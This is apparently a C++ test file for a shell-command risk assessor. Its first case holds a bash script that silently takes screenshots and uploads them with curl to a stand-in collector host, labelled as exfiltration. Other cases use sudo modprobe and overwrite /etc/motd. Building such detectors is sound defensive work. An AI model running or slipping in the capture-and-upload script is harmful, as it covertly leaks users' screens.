// The classes the thirty-second round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog36_MANIFEST.tsv): Kubernetes operations, data
// pipelines, terminal customisation, desktop application plumbing, and
// deception and red-team lab tooling. Its aside scored 25/29 before any
// change (BLOCKED 7/11); the classes below came from its tune part (69/71).
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A capture tool chosen from a preference list by a function, its command
// template's %f replaced by ${template//%f/$out}, run, and the frames it
// wrote uploaded through a glob: screen capture leaving the machine.
TEST(ThirtySecondRoundClasses, ACaptureToolPickedFromAListAndItsFramesUploaded) {
  const Case cases[] = {
      {"screenshots taken by the first tool found and uploaded", B,
       "TOOLS=(\"grim|grim -t jpeg %f\" \"scrot|scrot -o %f\")\n"
       "pick() {\n  local e\n  for e in \"${TOOLS[@]}\"; do\n"
       "    if command -v \"${e%%|*}\" >/dev/null 2>&1; then printf '%s' \"${e#*|}\"; return 0; fi\n"
       "  done\n  return 1\n}\n"
       "SPOOL=\"$HOME/.cache/assist\"\nmkdir -p \"$SPOOL\"\n"
       "template=\"$(pick)\" || exit 0\n"
       "frame=\"$SPOOL/frame-$(printf '%08d' 1).jpg\"\n"
       "cmd=\"${template//%f/$frame}\"\n$cmd\n"
       "for f in \"$SPOOL\"/frame-*.jpg; do\n"
       "  curl -fsS -F \"frame=@${f};type=image/jpeg\" https://collector.example.net/v1/frames\ndone\n",
       "EXFILTRATION", SH},
      {"a screenshot kept in the working directory", L,
       "TOOLS=(\"grim|grim %f\" \"scrot|scrot -o %f\")\n"
       "pick() {\n  local e\n  for e in \"${TOOLS[@]}\"; do\n"
       "    if command -v \"${e%%|*}\" >/dev/null 2>&1; then printf '%s' \"${e#*|}\"; return 0; fi\n"
       "  done\n}\n"
       "template=\"$(pick)\"\ncmd=\"${template//%f/./shot.png}\"\n$cmd\necho saved ./shot.png\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// ${VAR/pattern/string} and its kin replace a literal pattern in the
// value's known text; printf pads to a known width.
TEST(ThirtySecondRoundClasses, PatternSubstitutionAndPrintfWidths) {
  const Case cases[] = {
      {"a command template filled in and run", H,
       "T='sudo modprobe MOD'\ncmd=\"${T/MOD/nbd}\"\n$cmd\n", "PRIVILEGE-ESCALATION", SH},
      {"a suffix replaced to name the file written", H,
       "f=/etc/motd.new\necho hi > \"${f/%.new/}\"\n", "SYSTEM-MODIFICATION", SH},
      {"a zero-padded name in the working directory", L,
       "n=$(printf '%05d' 7)\necho hi > \"./log-$n.txt\"\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
